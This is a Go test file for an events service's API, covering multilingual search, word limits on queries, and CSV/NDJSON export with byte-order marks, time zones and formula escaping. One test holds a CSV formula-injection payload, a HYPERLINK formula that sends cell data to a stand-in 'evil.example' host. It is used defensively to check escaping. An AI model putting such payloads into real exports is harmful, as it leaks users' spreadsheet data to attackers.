// Copyright 2026 The events authors.
// SPDX-License-Identifier: Apache-2.0

package handlers_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"events/app"
	"events/models"
)

// TestSearchAPI: q on GET /api/events finds every word, in any script,
// with the other filters; a q over 200 characters is 400 naming it.
func TestSearchAPI(t *testing.T) {
	s := newServer(t)
	weekly := s.create(`{"kind":"task","title":"주간 회의 준비","description":"Agenda for the weekly"}`)
	notes := s.create(`{"kind":"calendar_event","title":"Weekly sync","description":"회의록 정리","start_at":"2026-11-23T10:00:00+09:00"}`)
	s.create(`{"kind":"task","title":"Groceries","description":"milk"}`)
	for q, want := range map[string][]int64{
		"회의":           {notes.ID, weekly.ID}, // timed first, untimed last
		"WEEKLY":       {notes.ID, weekly.ID},
		"weekly 회의록":   {notes.ID},
		"회의 agenda":    {weekly.ID},
		"sync 준비":      nil,
		"":             {notes.ID, weekly.ID, weekly.ID + 2},
		"회의&kind=task": {weekly.ID},
	} {
		target := "/api/events?q=" + url.QueryEscape(q)
		if i := strings.Index(q, "&"); i >= 0 {
			target = "/api/events?q=" + url.QueryEscape(q[:i]) + q[i:]
		}
		var got []int64
		for _, p := range s.walk(target + "&limit=1") {
			got = append(got, p...)
		}
		if !slices.Equal(got, want) {
			t.Errorf("GET %s: %v, want %v", target, got, want)
		}
	}
	s.get("/api/events?q="+url.QueryEscape(strings.Repeat("가", 201))).problem(t, http.StatusBadRequest, "q")
	s.get("/api/events?q="+url.QueryEscape(strings.Repeat("가", 200))).want(t, http.StatusOK)
	// the export takes q, the other listings do not
	s.get("/api/events/today?q=x").problem(t, http.StatusBadRequest, "q")
}

// TestSearchTakesEightWords: q holds at most 8 words, on the listing, its
// export and the search page; a ninth is 400 naming q with a sentence that
// says how many it takes. Each word is a condition every candidate row is
// checked against (a word of one or two characters makes no trigram, so the
// index cannot narrow it): 66 such words ran a listing to its deadline and
// an export for minutes. Spaces around and between words are no words.
func TestSearchTakesEightWords(t *testing.T) {
	s := newServer(t)
	hit := s.create(`{"kind":"task","title":"a b c d e f g h","description":"회의"}`)
	eight := url.QueryEscape("  a b c d  e f g 회의 ")
	nine := url.QueryEscape("a b c d e f g h 회의")
	if got := s.get("/api/events?q=" + eight).page(t); len(got.Items) != 1 || got.Items[0].ID != hit.ID {
		t.Errorf("eight words: %v, want the one event", ids(got.Items))
	}
	s.get("/api/events/export?q="+eight).want(t, http.StatusOK)
	s.get("/events/search?q="+eight).want(t, http.StatusOK)
	for _, target := range []string{"/api/events?q=" + nine, "/api/events/export?q=" + nine} {
		p := s.get(target).problem(t, http.StatusBadRequest, "q")
		if !strings.Contains(p.Detail, "9 words") || !strings.Contains(p.Detail, "at most 8") {
			t.Errorf("GET %s: %q does not say the words are too many", target, p.Detail)
		}
	}
	if body := s.get("/events/search?q="+nine).want(t, http.StatusBadRequest).Body; !strings.Contains(string(body), "at most 8") {
		t.Errorf("the search page with nine words does not say why:\n%s", body)
	}
	s.get("/api/events?q="+url.QueryEscape(strings.Repeat("x ", 66))).problem(t, http.StatusBadRequest, "q")
}

// exportCorpus creates events whose text needs CSV quoting, in Korean too,
// with a history of more than one row.
func exportCorpus(s *server) []event {
	out := []event{
		s.create(`{"kind":"task","title":"Pay rent, \"soon\"","description":"line one\nline two, with comma","project_tag":"home","priority":2}`),
		s.create(`{"kind":"calendar_event","title":"주간 회의 준비","description":"회의록 \"정리\"","start_at":"2026-11-23T10:00:00+09:00","end_at":"2026-11-23T11:00:00+09:00","labels":["회의","client, \"acme\""],"location":"3층 회의실"}`),
		s.create(`{"kind":"activity_log","title":"standup","started_at":"2026-11-22T09:00:00+09:00","ended_at":"2026-11-22T09:15:00+09:00","source":"shell","source_ref":"a,b \"c\""}`),
	}
	out[0] = s.op(out[0].ID, "complete", "")
	return out
}

// TestExportCSV: the CSV parses with encoding/csv; its header is the
// event's JSON field names in JSON order; each row holds what the event's
// JSON holds (times as in JSON, empty for null), commas, quotes, newlines
// and Hangul included; the file is an attachment named by the date.
func TestExportCSV(t *testing.T) {
	s := newServer(t)
	events := exportCorpus(s)
	a := s.get("/api/events/export?format=csv").want(t, http.StatusOK)
	if ct := a.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := a.Header.Get("Content-Disposition"); cd != `attachment; filename="events-2026-11-22.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if !bytes.Contains(a.Body, []byte("\r\n")) {
		t.Errorf("CSV lines do not end in CRLF")
	}
	records := readCSV(t, a.Body)
	if len(records) != 1+len(events) {
		t.Fatalf("%d records, want a header and %d rows", len(records), len(events))
	}
	for i, e := range events {
		raw := s.get(path(e.ID)).want(t, http.StatusOK).Body
		keys, values := jsonFields(t, raw)
		if want := append(keys, "local_date", "local_start", "local_end", "minutes", "counted_minutes"); !slices.Equal(records[0], want) {
			t.Fatalf("header %q, want the JSON's keys, then the local columns: %q", records[0], want)
		}
		if got := records[1+i][:len(values)]; !slices.Equal(got, values) {
			t.Errorf("row %d:\n%q\nwant\n%q", i+1, got, values)
		}
	}
	// every filter of GET /api/events, q included
	for _, q := range []string{"q=" + url.QueryEscape("회의록"), "kind=task", "status=done", "q=standup&source=shell", "project_tag=home",
		"from=2026-11-23T00:00:00%2B09:00&to=2026-11-24T00:00:00%2B09:00"} {
		records := readCSV(t, s.get("/api/events/export?"+q).want(t, http.StatusOK).Body)
		var got, want []string
		for _, r := range records[1:] {
			got = append(got, r[0])
		}
		for _, p := range s.walk("/api/events?" + q) {
			for _, id := range p {
				want = append(want, fmt.Sprint(id))
			}
		}
		slices.Sort(want)
		if len(want) == 0 || !slices.Equal(got, want) {
			t.Errorf("export?%s: ids %v, want those of the listing %v", q, got, want)
		}
	}
	s.get("/api/events/export?format=xml").problem(t, http.StatusBadRequest, "format")
	s.get("/api/events/export?limit=5").problem(t, http.StatusBadRequest, "limit")
	s.get("/api/events/export?kind=meeting").problem(t, http.StatusBadRequest, "kind")
}

// readCSV parses a CSV export with encoding/csv after its UTF-8
// byte-order mark, which it must begin with.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(body, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("the CSV does not begin with the UTF-8 byte-order mark: %q", body[:min(len(body), 20)])
	}
	records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, body)
	}
	return records
}

// jsonFields returns an event's JSON keys in order and its values as the
// CSV writes them.
func jsonFields(t *testing.T, raw []byte) (keys, values []string) {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.UseNumber()
	if _, err := dec.Token(); err != nil {
		t.Fatal(err)
	}
	for dec.More() {
		k, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		var v any
		if err := dec.Decode(&v); err != nil {
			t.Fatal(err)
		}
		keys = append(keys, k.(string))
		switch v := v.(type) {
		case nil:
			values = append(values, "")
		case string:
			values = append(values, v)
		case []any: // labels: one cell, joined with ";"
			var parts []string
			for _, p := range v {
				parts = append(parts, fmt.Sprint(p))
			}
			values = append(values, strings.Join(parts, ";"))
		default:
			values = append(values, fmt.Sprint(v))
		}
	}
	return keys, values
}

// TestExportNDJSON: one event per line, its JSON as GET /api/events/{id}
// answers it plus its history, oldest first, as the history listing has it.
func TestExportNDJSON(t *testing.T) {
	s := newServer(t)
	events := exportCorpus(s)
	a := s.get("/api/events/export?format=ndjson").want(t, http.StatusOK)
	if ct := a.Header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := a.Header.Get("Content-Disposition"); cd != `attachment; filename="events-2026-11-22.ndjson"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	lines := strings.Split(strings.TrimSuffix(string(a.Body), "\n"), "\n")
	if len(lines) != len(events) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(events), a.Body)
	}
	for i, e := range events {
		var got map[string]json.RawMessage
		if err := json.Unmarshal([]byte(lines[i]), &got); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		var hist []historyRow
		if err := json.Unmarshal(got["history"], &hist); err != nil {
			t.Fatalf("line %d history: %v", i+1, err)
		}
		if want := s.history(e.ID); len(hist) == 0 || !slices.Equal(changeKinds(hist), changeKinds(want)) || hist[0].ID != want[0].ID {
			t.Errorf("line %d: history %v, want %v", i+1, changeKinds(hist), changeKinds(want))
		}
		delete(got, "history")
		var want map[string]json.RawMessage
		if err := json.Unmarshal(s.get(path(e.ID)).want(t, http.StatusOK).Body, &want); err != nil {
			t.Fatal(err)
		}
		gotJSON, _ := json.Marshal(got)
		wantJSON, _ := json.Marshal(want)
		if !bytes.Equal(gotJSON, wantJSON) {
			t.Errorf("line %d:\n%s\nwant\n%s", i+1, gotJSON, wantJSON)
		}
	}
}

// TestExportBatches: an export longer than a batch has every matching
// event once, in id order, with the history of each, across the batches.
func TestExportBatches(t *testing.T) {
	s := newServer(t)
	if _, err := s.db.ExecContext(context.Background(), `
WITH e AS (
  INSERT INTO events (kind, status, title, description)
  SELECT 'task', 'planned', CASE WHEN i % 2 = 0 THEN '회의 ' ELSE 'task ' END || i, '' FROM generate_series(1, 2500) i
  RETURNING id, status)
INSERT INTO event_history (event_id, change_kind, actor, status_after, changes)
SELECT id, 'create', 'api', status, '{}' FROM e`); err != nil {
		t.Fatal(err)
	}
	for format, wantN := range map[string]int{"ndjson": 2500, "csv&q=" + url.QueryEscape("회의"): 1250} {
		a := s.get("/api/events/export?format="+format).want(t, http.StatusOK)
		sc := bufio.NewScanner(bytes.NewReader(a.Body))
		var last int64
		n := 0
		for sc.Scan() {
			line := sc.Text()
			if strings.HasPrefix(format, "csv") {
				if n++; n == 1 {
					continue
				}
				var id int64
				fmt.Sscan(strings.SplitN(line, ",", 2)[0], &id)
				if id <= last {
					t.Fatalf("%s: id %d after %d", format, id, last)
				}
				last = id
				continue
			}
			var e struct {
				ID      int64             `json:"id"`
				History []json.RawMessage `json:"history"`
			}
			if err := json.Unmarshal([]byte(line), &e); err != nil {
				t.Fatal(err)
			}
			if e.ID <= last || len(e.History) != 1 {
				t.Fatalf("%s: id %d after %d, %d history rows", format, e.ID, last, len(e.History))
			}
			last = e.ID
			n++
		}
		if strings.HasPrefix(format, "csv") {
			n--
		}
		if n != wantN {
			t.Errorf("%s: %d events, want %d", format, n, wantN)
		}
	}
}

// TestExportWindowAcrossBatches: an export of a window holds every event in
// it, cancelled ones included (events_span_idx leaves those out), in id
// order across batches, and none outside it; the first and the last are
// cancelled, so the range of ids must come from both span indexes.
func TestExportWindowAcrossBatches(t *testing.T) {
	s := newServer(t)
	ctx := context.Background()
	if _, err := s.db.ExecContext(ctx, `
INSERT INTO events (kind, status, title, due_at, cancelled_at)
SELECT 'task', CASE WHEN i % 10 = 0 THEN 'cancelled' ELSE 'planned' END::event_status, 'task ' || i,
       t, CASE WHEN i % 10 = 0 THEN t END
FROM generate_series(1, 3000) i, LATERAL (SELECT timestamptz '2026-01-01T00:00:00Z' + i * interval '1 hour' AS t) x`); err != nil {
		t.Fatal(err)
	}
	const from, to = "2026-01-11T00:00:00Z", "2026-04-01T00:30:00Z"
	var want []string
	if err := s.db.NewRaw(`SELECT e.id::text FROM events e WHERE e.due_at >= ? AND e.due_at < ? ORDER BY e.id`, from, to).Scan(ctx, &want); err != nil {
		t.Fatal(err)
	}
	var cancelled int
	if err := s.db.NewRaw(`SELECT count(*) FROM events WHERE due_at >= ? AND due_at < ? AND status = 'cancelled'`, from, to).Scan(ctx, &cancelled); err != nil {
		t.Fatal(err)
	}
	if len(want) <= app.ExportBatchSize || cancelled == 0 {
		t.Fatalf("%d events in the window, %d cancelled: the test needs more than a batch and some cancelled", len(want), cancelled)
	}
	a := s.get("/api/events/export?"+url.Values{"from": {from}, "to": {to}}.Encode()).want(t, http.StatusOK)
	records := readCSV(t, a.Body)
	var got []string
	for _, r := range records[1:] {
		got = append(got, r[0])
	}
	if !slices.Equal(got, want) {
		t.Errorf("%d ids (%v ... ), want the %d in the window (%v ...)", len(got), got[:min(5, len(got))], len(want), want[:5])
	}
}

// TestExportNeedsAuthentication: the export is behind the same
// authentication as the rest of the API.
func TestExportNeedsAuthentication(t *testing.T) {
	t.Parallel()
	s, _ := authServer(t, true)
	s.get("/api/events/export").problem(t, http.StatusUnauthorized)
	s.get("/api/events/export?q=x").problem(t, http.StatusUnauthorized)
	s.get("/api/events/export", bearer...).want(t, http.StatusOK)
}

// TestExportEscapesFormulas: in a CSV export, a cell that begins with =,
// +, -, @ or a tab (no text can be stored beginning with a carriage
// return; models' TestCSVFormulasAreEscaped has it) is written with a
// leading ', in the title, the description, the project tag and the source
// reference alike, so a spreadsheet that opens the file runs nothing;
// formulas=raw writes every cell as stored, for scripts; other cells are
// as stored either way. formulas takes escaped or raw, once, and only with
// CSV: anything else is 400 naming it.
func TestExportEscapesFormulas(t *testing.T) {
	s := newServer(t)
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "=1+2"}
	type stored struct{ title, description, tag, ref string }
	var want []stored
	for i, f := range formulas {
		// each column holds a formula, each time another one; a leading
		// tab is kept in a description only (a title is trimmed, a tag
		// and a reference hold no control character)
		st := stored{f, formulas[(i+1)%len(formulas)], formulas[(i+2)%len(formulas)], formulas[(i+3)%len(formulas)] + " " + strconv.Itoa(i)}
		if i == 0 {
			st.description = "\tindented"
		}
		body, _ := json.Marshal(map[string]any{"kind": "task", "title": st.title, "description": st.description,
			"project_tag": st.tag, "source": "import", "source_ref": st.ref})
		e := s.create(string(body))
		st.tag = str(e.ProjectTag) // as stored
		want = append(want, st)
	}
	plain := s.create(`{"kind":"task","title":"a=b","description":" =x","project_tag":"'quoted"}`)
	read := func(target string) [][]string {
		t.Helper()
		return readCSV(t, s.get(target).want(t, http.StatusOK).Body)
	}
	column := map[string]int{}
	for _, target := range []string{"/api/events/export", "/api/events/export?formulas=escaped", "/api/events/export?format=csv&formulas=raw"} {
		records := read(target)
		for i, name := range records[0] {
			column[name] = i
		}
		raw := strings.HasSuffix(target, "raw")
		for i, st := range want {
			row := records[1+i]
			for name, value := range map[string]string{"title": st.title, "description": st.description, "project_tag": st.tag, "source_ref": st.ref} {
				if !raw {
					value = "'" + value
				}
				if got := row[column[name]]; got != value {
					t.Errorf("%s: row %d, %s = %q, want %q", target, i+1, name, got, value)
				}
			}
		}
		last := records[len(records)-1]
		if last[column["id"]] != strconv.FormatInt(plain.ID, 10) || last[column["title"]] != "a=b" || last[column["description"]] != " =x" || last[column["project_tag"]] != "'quoted" {
			t.Errorf("%s: cells that are no formula changed: %q", target, last)
		}
	}
	for _, q := range []string{"formulas=off", "formulas=", "formulas=raw&formulas=raw", "format=ndjson&formulas=raw"} {
		s.get("/api/events/export?"+q).problem(t, http.StatusBadRequest, "formulas")
	}
}

// exportFirstLine is the exact first line of a CSV export: the UTF-8
// byte-order mark, the event's JSON field names in the JSON order (the
// field table's), then the local columns.
var exportFirstLine = func() string {
	var names []string
	for i := range models.EventFields {
		names = append(names, models.EventFields[i].Name)
	}
	return "\xEF\xBB\xBF" + strings.Join(append(names, models.CSVLocalColumns...), ",") + "\r\n"
}()

// TestExportForSpreadsheets: a CSV export opens in a spreadsheet as the
// person reads the events: it begins with the UTF-8 byte-order mark (a
// Korean title reads back through it), unless bom=0; after the JSON's
// columns come local_date, local_start, local_end, minutes and
// counted_minutes in the
// request's zone (?tz=, else EVENTS_TIMEZONE), an all-day entry as its
// dates; the file is named after the window's local days. bom takes 1 or
// 0, once, with CSV only: anything else is 400 naming it.
func TestExportForSpreadsheets(t *testing.T) {
	s := newServer(t)
	meeting := s.create(`{"kind":"calendar_event","title":"주간 회의","start_at":"2026-11-23T10:00:00+09:00","end_at":"2026-11-23T11:30:00+09:00"}`)
	review := s.create(`{"kind":"activity_log","title":"코드 리뷰","started_at":"2026-11-24T23:30:00+09:00","ended_at":"2026-11-25T00:15:00+09:00","project_tag":"work"}`)
	rent := s.create(`{"kind":"task","title":"=월세 이체","due_at":"2026-11-25T18:00:00+09:00"}`)
	leave := s.create(`{"kind":"calendar_event","title":"휴가","start_at":"2026-11-27T00:00:00+09:00","end_at":"2026-11-28T00:00:00+09:00","all_day":true}`)
	week := "from=2026-11-23T00:00:00%2B09:00&to=2026-11-30T00:00:00%2B09:00"
	local := func(target string) map[int64][][]string {
		t.Helper()
		a := s.get(target).want(t, http.StatusOK)
		if !bytes.HasPrefix(a.Body, []byte(exportFirstLine)) {
			t.Fatalf("%s: the first line is %q, want %q", target, a.Body[:bytes.IndexByte(a.Body, '\n')+1], exportFirstLine)
		}
		records := readCSV(t, a.Body)
		rows := map[int64][][]string{}
		for _, r := range records[1:] {
			id, _ := strconv.ParseInt(r[0], 10, 64)
			rows[id] = append(rows[id], r)
		}
		return rows
	}
	lastCells := func(rs [][]string) [][]string {
		var out [][]string
		for _, r := range rs {
			out = append(out, r[len(r)-5:])
		}
		return out
	}
	// Seoul, the service's zone
	a := s.get("/api/events/export?"+week).want(t, http.StatusOK)
	if cd := a.Header.Get("Content-Disposition"); cd != `attachment; filename="events-2026-11-23--2026-11-29.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	rows := local("/api/events/export?" + week)
	for _, c := range []struct {
		e     event
		title string
		want  [][]string
	}{
		{meeting, "주간 회의", [][]string{{"2026-11-23", "2026-11-23 10:00", "2026-11-23 11:30", "90", ""}}},
		// a log across midnight: a row for each day's piece, each counted on its day
		{review, "코드 리뷰", [][]string{{"2026-11-24", "2026-11-24 23:30", "2026-11-25 00:00", "30", "30"},
			{"2026-11-25", "2026-11-25 00:00", "2026-11-25 00:15", "15", "15"}}},
		{rent, "'=월세 이체", [][]string{{"2026-11-25", "2026-11-25 18:00", "", "", ""}}},
		{leave, "휴가", [][]string{{"2026-11-27", "2026-11-27", "2026-11-27", "1440", ""}}},
	} {
		r := rows[c.e.ID]
		if r == nil {
			t.Errorf("%s is not in the export", c.title)
			continue
		}
		if r[0][3] != c.title {
			t.Errorf("title %q, want %q", r[0][3], c.title)
		}
		if got := lastCells(r); !slices.EqualFunc(got, c.want, slices.Equal) {
			t.Errorf("%s: local columns %q, want %q", c.title, got, c.want)
		}
	}
	// New York: the clock times move, the all-day entry keeps its date
	rows = local("/api/events/export?" + week + "&tz=America/New_York")
	for id, want := range map[int64][][]string{
		meeting.ID: {{"2026-11-22", "2026-11-22 20:00", "2026-11-22 21:30", "90", ""}},
		review.ID:  {{"2026-11-24", "2026-11-24 09:30", "2026-11-24 10:15", "45", "45"}},
		leave.ID:   {{"2026-11-27", "2026-11-27", "2026-11-27", "1440", ""}},
	} {
		if got := lastCells(rows[id]); !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("tz=America/New_York: event %d: %q, want %q", id, got, want)
		}
	}
	if cd := s.get("/api/events/export?"+week+"&tz=America/New_York").want(t, http.StatusOK).Header.Get("Content-Disposition"); cd != `attachment; filename="events-2026-11-22--2026-11-29.csv"` {
		t.Errorf("tz=America/New_York: Content-Disposition %q", cd)
	}
	// bom=1 is the default; bom=0 leaves the mark out and nothing else
	withBOM := s.get("/api/events/export?"+week).want(t, http.StatusOK).Body
	if one := s.get("/api/events/export?"+week+"&bom=1").want(t, http.StatusOK).Body; !bytes.Equal(one, withBOM) {
		t.Errorf("bom=1 differs from the default")
	}
	if zero := s.get("/api/events/export?"+week+"&bom=0").want(t, http.StatusOK).Body; !bytes.Equal(zero, withBOM[3:]) {
		t.Errorf("bom=0 is not the file without its first three bytes: %q", zero[:min(len(zero), 20)])
	}
	// the name after the window, whatever its ends
	for q, want := range map[string]string{
		"":                                 "events-2026-11-22.csv", // no window: today
		"format=ndjson&" + week:            "events-2026-11-23--2026-11-29.ndjson",
		"from=2026-11-23T00:00:00%2B09:00": "events-from-2026-11-23.csv",
		"to=2026-11-30T00:00:00%2B09:00":   "events-until-2026-11-29.csv",
		"to=2026-11-30T12:00:00%2B09:00":   "events-until-2026-11-30.csv",
		"from=2026-11-23T00:00:00Z&tz=UTC": "events-from-2026-11-23.csv",
		"from=2026-11-23T00:00:00Z&to=2026-11-23T01:00:00Z&tz=UTC": "events-2026-11-23--2026-11-23.csv",
	} {
		if cd := s.get("/api/events/export?"+q).want(t, http.StatusOK).Header.Get("Content-Disposition"); cd != `attachment; filename="`+want+`"` {
			t.Errorf("?%s: Content-Disposition %q, want %s", q, cd, want)
		}
	}
	for _, q := range []string{"bom=2", "bom=", "bom=yes", "bom=true", "bom=0&bom=0", "format=ndjson&bom=0", "format=ndjson&bom=1"} {
		s.get("/api/events/export?"+q).problem(t, http.StatusBadRequest, "bom")
	}
	s.get("/api/events/export?tz=Mars/Olympus").problem(t, http.StatusBadRequest, "tz")
}
